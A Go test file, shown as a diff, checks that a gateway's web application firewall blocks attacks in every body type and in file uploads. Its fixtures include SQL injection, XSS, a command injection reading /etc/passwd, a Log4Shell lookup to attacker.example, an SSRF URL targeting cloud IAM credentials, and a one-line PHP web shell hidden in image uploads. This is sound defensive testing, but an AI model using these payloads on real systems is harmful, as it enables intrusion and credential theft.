@@ -1,0 +1,242 @@
+package gateway
+
+import (
+	"bytes"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"mime/multipart"
+	"net/textproto"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// The attack families of issue 10 item 3, each as a body value.
+var bodyAttacks = map[string]string{
+	"sqli":      "1' UNION SELECT password FROM users--",
+	"xss":       "<script>alert(document.cookie)</script>",
+	"cmdi":      "; cat /etc/passwd",
+	"traversal": "../../../../etc/passwd",
+	"log4shell": "${jndi:ldap://attacker.example/a}",
+	"ssrf":      "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+	"ssti":      "{{''.__class__.__mro__[1].__subclasses__()}}",
+}
+
+// protoString encodes a protobuf message with field 1 holding s and field
+// 2 the varint 150, as a client library would.
+func protoString(s string) []byte {
+	var b []byte
+	b = append(b, 0x0a)
+	b = binary.AppendUvarint(b, uint64(len(s)))
+	b = append(b, s...)
+	return append(b, 0x10, 0x96, 0x01)
+}
+
+// bodyOfType renders value as a body of the declared type the way a
+// client of that type sends it.
+func bodyOfType(t *testing.T, ctype, value string) (string, []byte) {
+	t.Helper()
+	switch ctype {
+	case "text/plain":
+		return ctype, []byte("note: " + value)
+	case "application/octet-stream":
+		return ctype, append(append([]byte{0x00, 0x01, 0xff, 0x10}, value...), 0x00, 0x02)
+	case "application/x-ndjson":
+		a, _ := json.Marshal(map[string]string{"event": "search", "q": value})
+		return ctype, append(append([]byte(`{"event":"view","page":"/"}`+"\n"), a...), '\n')
+	case "application/x-protobuf":
+		return ctype, protoString(value)
+	case "multipart/related":
+		var buf bytes.Buffer
+		mw := multipart.NewWriter(&buf)
+		h := textproto.MIMEHeader{}
+		h.Set("Content-Type", "application/json")
+		h.Set("Content-ID", "<meta>")
+		p, _ := mw.CreatePart(h)
+		j, _ := json.Marshal(map[string]string{"title": value})
+		p.Write(j)
+		h = textproto.MIMEHeader{}
+		h.Set("Content-Type", "text/plain")
+		h.Set("Content-ID", "<body>")
+		p, _ = mw.CreatePart(h)
+		p.Write([]byte("hello"))
+		mw.Close()
+		return `multipart/related; type="application/json"; boundary=` + mw.Boundary(), buf.Bytes()
+	}
+	t.Fatalf("no rendering for %s", ctype)
+	return "", nil
+}
+
+var opaqueTypes = []string{"text/plain", "application/octet-stream", "application/x-ndjson", "application/x-protobuf", "multipart/related"}
+
+// TestWAFInspectsEveryBodyType: issue 10 item 3. The same attack that is
+// blocked as JSON is blocked in a body of any declared type, against the
+// real gateway listener; benign bodies of those types pass; and a route
+// that lists a type as uninspected passes it, as its operator chose.
+func TestWAFInspectsEveryBodyType(t *testing.T) {
+	yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: telemetry\n    service: api\n    port: 9090\n    path: /telemetry/\n    waf_uninspected_types: [application/x-protobuf]\n", 1)
+	f := newFixture(t, yaml+"rate_limit:\n  off: true\n")
+	post := f.postAs
+	for family, value := range bodyAttacks {
+		for _, ct := range opaqueTypes {
+			ctype, body := bodyOfType(t, ct, value)
+			if code := post("/api/items", ctype, body); code != 403 {
+				t.Errorf("%s as %s: %d, want 403", family, ct, code)
+			}
+		}
+		j, _ := json.Marshal(map[string]string{"q": value})
+		if code := post("/api/items", "application/json", j); code != 403 {
+			t.Errorf("%s as application/json: %d, want 403", family, code)
+		}
+	}
+
+	t.Log("benign bodies of the same types pass")
+	for _, benign := range []string{"hello world", "Ana María ordered 2 items, thanks!", "https://example.com/docs/getting-started?page=2"} {
+		for _, ct := range opaqueTypes {
+			ctype, body := bodyOfType(t, ct, benign)
+			if code := post("/api/items", ctype, body); code != 200 {
+				t.Errorf("benign %q as %s: %d, want 200", benign, ct, code)
+			}
+		}
+	}
+
+	t.Log("a route that takes protobuf uninspected passes it, and inspects every other type")
+	_, pb := bodyOfType(t, "application/x-protobuf", bodyAttacks["sqli"])
+	if code := post("/telemetry/v1", "application/x-protobuf", pb); code != 200 {
+		t.Errorf("protobuf to a route that lists it as uninspected: %d, want 200", code)
+	}
+	if _, back := f.backends["api"].lastRequest(); back != string(pb) {
+		t.Errorf("the uninspected body reached the service altered")
+	}
+	ctype, nd := bodyOfType(t, "application/x-ndjson", bodyAttacks["sqli"])
+	if code := post("/telemetry/v1", ctype, nd); code != 403 {
+		t.Errorf("NDJSON to the same route: %d, want 403", code)
+	}
+}
+
+// TestWAFUninspectedTypesValidated: a route cannot take the types the WAF
+// parses out of inspection, and a bad entry names its key.
+func TestWAFUninspectedTypesValidated(t *testing.T) {
+	for _, c := range []struct{ list, want string }{
+		{"[application/json]", "routes[2].waf_uninspected_types[0]"},
+		{"[\"*/*\"]", "routes[2].waf_uninspected_types[0]"},
+		{"[protobuf]", "routes[2].waf_uninspected_types[0]"},
+	} {
+		yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: t\n    service: api\n    port: 9090\n    path: /t/\n    waf_uninspected_types: "+c.list+"\n", 1)
+		dir := t.TempDir()
+		cert, key, _ := writeCert(t, dir, "gw")
+		name := dir + "/gateway.yaml"
+		if err := os.WriteFile(name, []byte(fmt.Sprintf(yaml, cert, key)), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		_, err := LoadFile(name, nil)
+		if err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("waf_uninspected_types %s: %v, want an error naming %s", c.list, err, c.want)
+		}
+	}
+}
+
+// postAs sends body as ctype from the gateway's own origin and returns
+// the status.
+func (f *fixture) postAs(path, ctype string, body []byte) int {
+	f.t.Helper()
+	r := f.req("POST", path, bytes.NewReader(body))
+	r.Header.Set("Content-Type", ctype)
+	r.Header.Set("Origin", f.base)
+	code, _, _ := f.do(r)
+	return code
+}
+
+// upload renders one multipart/form-data upload.
+func upload(t *testing.T, filename, ctype string, content []byte) (string, []byte) {
+	t.Helper()
+	var buf bytes.Buffer
+	mw := multipart.NewWriter(&buf)
+	mw.WriteField("MAX_FILE_SIZE", "100000")
+	h := textproto.MIMEHeader{}
+	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="uploaded"; filename=%q`, filename))
+	h.Set("Content-Type", ctype)
+	p, _ := mw.CreatePart(h)
+	p.Write(content)
+	mw.WriteField("Upload", "Upload")
+	mw.Close()
+	return mw.FormDataContentType(), buf.Bytes()
+}
+
+// TestWAFUploads: executable content is refused on routes that take none,
+// and disguised executable content (a PHP script named cat.png) on every
+// route; an image passes everywhere, a program passes on a route that
+// takes executable uploads.
+func TestWAFUploads(t *testing.T) {
+	yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: artifacts\n    service: api\n    port: 9090\n    path: /artifacts/\n    waf_executable_uploads: true\n", 1)
+	f := newFixture(t, yaml+"rate_limit:\n  off: true\n")
+	post := f.postAs
+	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0x42, 0x00, 0x7f}, 200)...)
+	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0x00, 0x3e}, 200)...)
+	php := []byte("<?php\nsystem($_GET[cmd]);\n")
+	polyglot := append([]byte("GIF89a"), php...)
+	cases := []struct {
+		name, path, filename, ctype string
+		content                     []byte
+		want                        int
+	}{
+		{"image", "/api/upload", "cat.png", "image/png", png, 200},
+		{"image to the artifacts route", "/artifacts/upload", "cat.png", "image/png", png, 200},
+		{"PHP named as an image", "/api/upload", "cmd.png", "image/png", php, 403},
+		{"PHP named as an image, artifacts route", "/artifacts/upload", "cmd.png", "image/png", php, 403},
+		{"GIF with PHP inside", "/api/upload", "x.gif", "image/gif", polyglot, 403},
+		{"program", "/api/upload", "tool", "application/octet-stream", elf, 403},
+		{"program to the artifacts route", "/artifacts/upload", "tool", "application/octet-stream", elf, 200},
+		{"script by name", "/api/upload", "shell.php", "application/x-php", php, 403},
+		{"SVG with script", "/api/upload", "logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`), 403},
+		{"SVG without script", "/api/upload", "logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`), 200},
+	}
+	for _, c := range cases {
+		ctype, body := upload(t, c.filename, c.ctype, c.content)
+		if code := post(c.path, ctype, body); code != c.want {
+			t.Errorf("%s: %d, want %d", c.name, code, c.want)
+		}
+	}
+}
+
+// TestWAFArgumentLimitsAndBudget: issue 10 item 7, the WAF side. A 2 MiB
+// form value is refused before the attack rules read it (413), and a
+// request still under inspection when the CPU budget is spent is refused
+// (503), not passed.
+func TestWAFArgumentLimitsAndBudget(t *testing.T) {
+	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\nlimits:\n  max_body_bytes: 4194304\nwaf:\n  request_body_limit: 4194304\n")
+	post := func(f *fixture, body string) int {
+		r := f.req("POST", "/app/form", strings.NewReader(body))
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		r.Header.Set("Origin", f.base)
+		code, _, _ := f.do(r)
+		return code
+	}
+	if code := post(f, "comment="+strings.Repeat("a", 2<<20)); code != 413 {
+		t.Errorf("a 2 MiB value: %d, want 413", code)
+	}
+	if code := post(f, "a="+strings.Repeat("x", 100<<10)+"&b="+strings.Repeat("y", 100<<10)); code != 200 {
+		t.Errorf("two 100 KiB values: %d, want 200", code)
+	}
+	var limitEvents int
+	for _, r := range f.events.all() {
+		if r.Unmapped.Kind == KindWAF && slices.Contains(r.Unmapped.Rules, "90003") {
+			limitEvents++
+		}
+	}
+	if limitEvents != 1 {
+		t.Errorf("%d security events name rule 90003, want 1", limitEvents)
+	}
+
+	t.Log("with a budget of 1 ms of CPU, a request with 200 KiB of arguments is refused")
+	g := newFixture(t, baseYAML+"rate_limit:\n  off: true\nwaf:\n  budget: 1ms\n")
+	if code := post(g, "a="+strings.Repeat("x", 100<<10)+"&b="+strings.Repeat("y", 100<<10)); code != 503 {
+		t.Errorf("over budget: %d, want 503", code)
+	}
+	r := g.req("GET", "/app/page", nil)
+	if code, _, _ := g.do(r); code != 200 {
+		t.Errorf("a plain GET under the same budget: %d, want 200", code)
+	}
+}
